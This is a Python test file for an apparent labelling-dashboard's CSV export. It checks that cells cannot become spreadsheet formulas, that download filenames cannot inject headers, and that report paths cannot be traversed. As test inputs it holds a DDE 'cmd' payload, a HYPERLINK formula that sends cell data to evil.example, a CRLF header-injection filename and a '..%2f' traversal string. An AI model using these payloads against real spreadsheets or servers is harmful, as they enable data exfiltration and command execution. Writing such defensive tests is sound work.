"""CSV that spreadsheets open safely, and files whose names are safe."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from labelhouse.marts.export import csv_cell
from labelhouse.reports import all_reports
from labelhouse.web.tiles import shown
from web.fake_lake import answers, publish, status, write_status
from web.fake_training import ACCOUNT, training_points


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_text_can_be_a_formula(start: str) -> None:
    assert csv_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, -3),
        (-0.5, -0.5),
        (Decimal("-1.250"), Decimal("-1.250")),
        (True, "true"),
        (None, None),
        ("plain - text", "plain - text"),
        (date(2026, 9, 30), "2026-09-30"),
        (datetime(2026, 9, 30, 12, tzinfo=UTC), "2026-09-30T12:00:00+00:00"),
    ],
)
def test_other_values_stay_what_they_are(value: Any, written: Any) -> None:
    assert csv_cell(value) == written


def rows_of(client: TestClient, address: str) -> list[dict[str, str]]:
    answer = client.get(address)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.content.startswith(b"\xef\xbb\xbf"), "spreadsheets know UTF-8 by its mark only"
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_every_tile_of_a_page_can_be_exported(reader: TestClient) -> None:
    worker = rows_of(reader, "/workers/worker_table.csv")[0]["worker_id"]
    chosen = {
        "workers": f"worker={worker}",
        "annotations": "attribute=moving: 1",
        "training": f"run={ACCOUNT}/eu-west-1/birds-classifier-023-aws-training-job",
        "operations": "",
        "cost": "",
    }
    for report in all_reports().values():
        rows = rows_of(reader, f"/{report.page}/{report.name}.csv?{chosen[report.page]}")
        assert rows
        assert list(rows[0]) == [field.name for field in report.fields]
    for name in ("checks", "quarantine", "ledger", "releases"):
        assert rows_of(reader, f"/quality/{name}.csv")


def test_hostile_names_are_exported_as_text(tmp_path: Path, reader_of: Callable[[Path], TestClient]) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    rows = [
        row | {"source_ref": formula, "label": "@SUM(1)", "worker_id": "+1"} for row in answers({formula: "private"})
    ]
    points = [row | {"principal_arn": formula, "run_name": "+1", "run_id": "=1/@2/+3"} for row in training_points(3, 5)]
    release = publish(tmp_path, rows, points)
    bad = status()["quarantine"][0] | {"reason": "-2+3", "examples": [{"unit_uri": formula, "position": "0"}]}
    write_status(tmp_path, status(release, quarantine=[bad]))
    client = reader_of(tmp_path)
    answer = rows_of(client, "/workers/worker_answers.csv?worker=%2B1")[0]
    assert (answer["source_ref"], answer["label"], answer["labeling_job_name"]) == (
        f"'{formula}",
        "'@SUM(1)",
        f"'{formula}",
    )
    assert rows_of(client, "/workers/worker_table.csv")[0]["worker_id"] == "'+1"
    assert float(answer["time_spent_seconds"]) > 0
    assert {row["principal_arn"] for row in rows_of(client, "/training/metric_writers.csv")} == {f"'{formula}"}
    assert rows_of(client, "/training/run_table.csv?run=%3D1/@2/%2B3")[0]["run_id"] == "'=1/@2/+3"
    quarantined = rows_of(client, "/quality/quarantine.csv")[0]
    assert (quarantined["reason"], quarantined["example"]) == ("'-2+3", f"'{formula} · 0")


def test_the_names_of_files_hold_nothing_from_outside(tmp_path: Path, reader_of: Callable[[Path], TestClient]) -> None:
    write_status(tmp_path, status(written_at='2026"; filename="evil.exe\r\nX-Injected: 1'))
    answer = reader_of(tmp_path).get("/quality/ledger.csv")
    assert answer.headers["content-disposition"] == (
        'attachment; filename="labelhouse-ledger-2026-filename-evil-exe-X-Injected-1.csv"'
    )
    assert "x-injected" not in answer.headers


@pytest.mark.parametrize("name", ["worker_table", "no_such_report", "..%2f..%2fsettings", "checks"])
def test_only_what_a_page_shows_can_be_exported_from_it(reader: TestClient, name: str) -> None:
    assert reader.get(f"/quality/{name}.csv").status_code == (200 if name == "checks" else 404)
    assert reader.get(f"/workers/{name}.csv").status_code == (200 if name == "worker_table" else 404)
    assert reader.get(f"/training/{name}.csv").status_code == 404


@pytest.mark.parametrize(
    ("value", "kind", "text"),
    [
        (None, "count", "–"),
        (1234567, "count", "1,234,567"),
        (0.9996, "ratio", "99.9 %"),
        (1.0, "ratio", "100 %"),
        (0.125, "ratio", "12.5 %"),
        (340.25, "pct", "340.2 %"),
        (0.875, "change", "+87.5 %"),
        (-0.091, "change", "−9.1 %"),
        (11.0, "change", "+1,100 %"),
        (Decimal("1476.16"), "usd", "$1,476.16"),
        (Decimal("0.000032"), "usd", "$0.000032"),
        (date(2026, 8, 1), "month", "August 2026"),
        ("labeling_task", "kind", "labeling task"),
        (Decimal("9.771"), "seconds", "9.8 s"),
        (136.8, "seconds", "2 min 17 s"),
        (59.99, "seconds", "1 min 00 s"),
        (3599.7, "seconds", "1 h 00 min"),
        (7384, "seconds", "2 h 03 min"),
        ("2026-09-30T14:00:00+02:00", "time", "2026-09-30 12:00 UTC"),
        (-65.0, "seconds", "−1 min 05 s"),
        (0.912345, "number", "0.9123"),
        (0.00045678, "number", "0.0004568"),
        (0.000001, "number", "1.000e-06"),
        (48210.4, "number", "48,210"),
        (1.5e12, "number", "1.500e+12"),
        (0.0, "number", "0"),
        (12, "number", "12.00"),
        (-2.5, "number", "-2.500"),
        ("123456789012/eu-west-1/a/b", "run", "a/b"),
        ("no id", "run", "no id"),
        (False, "boolean", "no"),
    ],
)
def test_values_as_people_read_them(value: Any, kind: Any, text: str) -> None:
    assert shown(value, kind) == text
